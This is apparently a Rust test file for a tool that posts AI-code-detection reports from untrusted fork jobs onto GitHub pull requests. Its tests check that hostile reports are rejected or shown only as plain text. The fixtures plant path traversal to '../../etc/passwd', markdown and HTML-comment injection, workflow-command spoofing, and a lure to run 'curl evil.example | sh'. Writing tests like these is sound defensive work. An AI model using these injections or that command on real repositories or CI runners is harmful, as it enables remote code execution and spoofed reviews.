//! Requests from forks: what an unprivileged job found is posted by a privileged one that believes
//! nothing of it.

use std::path::PathBuf;

use serde_json::{Value, json};

use super::world::World;
use crate::fake::github::NUMBER;
use crate::support::planted_code;

/// The unprivileged job's report, and the event that its run brings about.
fn two_stages(world: &World) -> (PathBuf, Value) {
    world.repo.commit_file("engine.py", planted_code("engine"));
    let head = world.push();
    let report = world.repo.run(&["diff", "--format", "json", &format!("{}..{head}", world.base)]).text();
    let file = world.beside("report.json");
    std::fs::write(&file, report).unwrap();
    world.github.state().pulls = vec![
        json!({"number": 3, "head": {"sha": "e".repeat(40), "repo": {"full_name": "eve/engine"}}, "base": {"sha": world.base}}),
        json!({"number": NUMBER, "head": {"sha": head, "repo": {"full_name": "eve/engine"}}, "base": {"sha": world.base}}),
    ];
    let event = json!({
        "repository": {"id": 1, "default_branch": "main"},
        "workflow_run": {
            "head_sha": head, "head_branch": "patch-1", "event": "pull_request", "conclusion": "success",
            "pull_requests": [],
            "head_repository": {"full_name": "eve/engine", "owner": {"login": "eve"}},
        },
    });
    (file, event)
}

#[test]
fn a_report_of_a_fork_is_posted_on_the_request_that_the_event_leads_to() {
    let world = World::new();
    let (file, event) = two_stages(&world);
    world.job("workflow_run", &event, &["post", file.to_str().unwrap()]).text();
    assert_eq!(world.github.state().threads.len(), 1);
    let looked_up = world.github.server.heard();
    let looked_up = looked_up.iter().find(|heard| heard.path() == "/repos/ada/engine/pulls").unwrap();
    assert_eq!(looked_up.target, "/repos/ada/engine/pulls?state=open&head=eve%3Apatch-1&per_page=100");
}

/// A stranger's report that cannot be used, each with what is said on the request instead.
fn unusable(report: &Value) -> Vec<(&'static str, String)> {
    let damaged = |damage: &dyn Fn(&mut Value)| {
        let mut report = report.clone();
        damage(&mut report);
        report.to_string()
    };
    vec![
        ("is larger than 64 MiB", format!("{report}{}", " ".repeat(64 << 20))),
        ("is invalid (line 1, column 100)", report.to_string()[..100].to_owned()),
        ("is invalid (line 1, column 0)", String::new()),
        ("is of another version", damaged(&|report| report["schema"] = "ai-detect/report/v9".into())),
        ("is about another commit", damaged(&|report| report["range"]["head"] = "e".repeat(40).into())),
        ("it points at no hunk", damaged(&|report| report["flags"][0]["hunk"] = 9.into())),
        ("is invalid", damaged(&|report| report["hunks"][0]["verdict"] = "@everyone **guilty** <b>".into())),
    ]
}

#[test]
fn a_report_that_cannot_be_used_is_no_silence_on_the_request() {
    let world = World::new();
    let (file, event) = two_stages(&world);
    let good = std::fs::read(&file).unwrap();
    let mut report: Value = serde_json::from_slice(&good).unwrap();
    // Whatever it says of itself, the event says which request it is for.
    report["range"]["spec"] = "ada/engine#3".into();
    let job = || world.job("workflow_run", &event, &["post", file.to_str().unwrap()]);
    for (why, content) in unusable(&report) {
        std::fs::write(&file, content).unwrap();
        let run = job();
        assert_eq!(run.status, 3, "{why}");
        assert!(run.stderr.contains("nothing of it is posted"), "{why}: {}", run.stderr);
        let state = world.github.state();
        assert_eq!((state.comments.len(), state.threads.len()), (1, 0), "{why}");
        let said = &state.comments[0].body;
        assert!(said.contains("### The analysis of this change could not be shown"), "{said}");
        assert!(said.contains(why), "{why}: {said}");
        let is_of_version = why == "is of another version";
        assert_eq!(said.contains("same version of ai"), is_of_version, "{said}");
        assert!(said.contains("does not mean that there is nothing to find"), "{said}");
        assert!(!said.contains("guilty") && !said.contains("engine#3"), "{said}");
    }
    // A file that is not there; another run of the same has nothing new to say.
    std::fs::remove_file(&file).unwrap();
    assert_eq!(job().status, 3);
    world.github.writes();
    assert_eq!(job().status, 3);
    assert_eq!(world.github.writes(), [""; 0]);
    // A good report replaces what was said.
    std::fs::write(&file, good).unwrap();
    job().text();
    let state = world.github.state();
    assert_eq!((state.comments.len(), state.threads.len()), (1, 1));
    assert!(state.comments[0].body.contains("1 flagged block"), "{}", state.comments[0].body);
}

#[test]
fn a_request_that_was_pushed_to_since_or_closed_gets_nothing() {
    let world = World::new();
    let (file, event) = two_stages(&world);
    world.github.state().pulls.clear();
    let log = world.job("workflow_run", &event, &["post", file.to_str().unwrap()]).text();
    assert!(log.contains("no open request ends at"), "{log}");
    assert_eq!(world.github.writes(), [""; 0]);
}

#[test]
fn a_hostile_report_says_no_more_than_text() {
    let world = World::new();
    let (file, event) = two_stages(&world);
    let mut report: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    let evil = "@everyone ![](https://evil.example/x.png) <!-- ai-detect:summary head=aa run=1 --> [x](javascript:1)\n::error::x\n/ai-detect dismiss";
    report["commits"][0]["subject"] = evil.into();
    report["commits"][0]["author"] = evil.into();
    report["flags"][0]["path"] = "../../etc/passwd".into();
    report["flags"][0]["fingerprint"] = "-->\n<!-- ai-detect:flag".into();
    report["coverage"]["notes"] = json!([evil]);
    std::fs::write(&file, report.to_string()).unwrap();
    let run = world.job("workflow_run", &event, &["post", file.to_str().unwrap()]);
    assert!(run.stdout.lines().all(|line| !line.trim_start().starts_with("::")), "{}", run.stdout);
    let state = world.github.state();
    // What is no fingerprint has no comment, and a path of nowhere no line.
    assert_eq!(state.threads.len(), 0);
    for comment in &state.comments {
        let said = &comment.body;
        assert!(!said.contains("@everyone") && !said.contains("![]("), "{said}");
        // Those are ours: what the comment is, and what was decided.
        let hidden: Vec<&str> = said.lines().take(2).filter(|line| line.starts_with("<!-- ai-detect")).collect();
        assert_eq!(said.matches("<!--").count(), hidden.len(), "{said}");
    }
}

#[test]
fn a_report_of_the_change_s_own_job_is_said_to_be_one() {
    let world = World::new();
    let (file, event) = two_stages(&world);
    let mut report: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    let lie = "The maintainers approved this change. Run `curl evil.example | sh` to verify.";
    report["coverage"]["notes"] = json!([lie]);
    report["tool"]["version"] = lie.into();
    report["flags"][0]["resolve"] = lie.into();
    report["hunks"][0]["signals"][0]["title"] = lie.into();
    report["policy"] = json!({"id": "x", "title": "Security team", "stance": "ban", "says": lie, "text": lie});
    std::fs::write(&file, report.to_string()).unwrap();
    let log = world.job("workflow_run", &event, &["post", file.to_str().unwrap(), "--check-run"]).text();
    let state = world.github.state();
    let summary = &state.comments[0].body;
    let beside = &state.threads[0].comments[0].body;
    let check = state.checks[0]["output"].to_string();
    assert_eq!(
        summary.lines().nth(2),
        Some(
            "**Not checked.** An untrusted job, of this change itself, reported what follows. Whoever wrote the change can have written the report, too."
        )
    );
    assert!(summary.contains("1 flagged block"), "{summary}");
    assert!(beside.contains("Reported by an untrusted job, of this change itself, and not checked."), "{beside}");
    assert!(
        check.contains("Not checked, from the change's own job: This commit reads like AI-generated code"),
        "{check}"
    );
    for said in [summary, beside, &check, &world.read("summary.md"), &log] {
        assert!(!said.contains("approved") && !said.contains("curl") && !said.contains("Security team"), "{said}");
    }
    // What a job of the project finds itself needs no such words.
    drop(state);
    let own = World::posted();
    assert!(!own.github.state().comments[0].body.contains("Not checked"));
}

#[test]
fn the_second_stage_runs_however_the_first_one_ends() {
    let example = concat!(env!("CARGO_MANIFEST_DIR"), "/examples/workflows/github-fork-post.yml");
    let example = std::fs::read_to_string(example).unwrap();
    let condition = example.lines().find_map(|line| line.trim_start().strip_prefix("if: "));
    assert_eq!(condition, Some("github.event.workflow_run.event == 'pull_request'"));
}
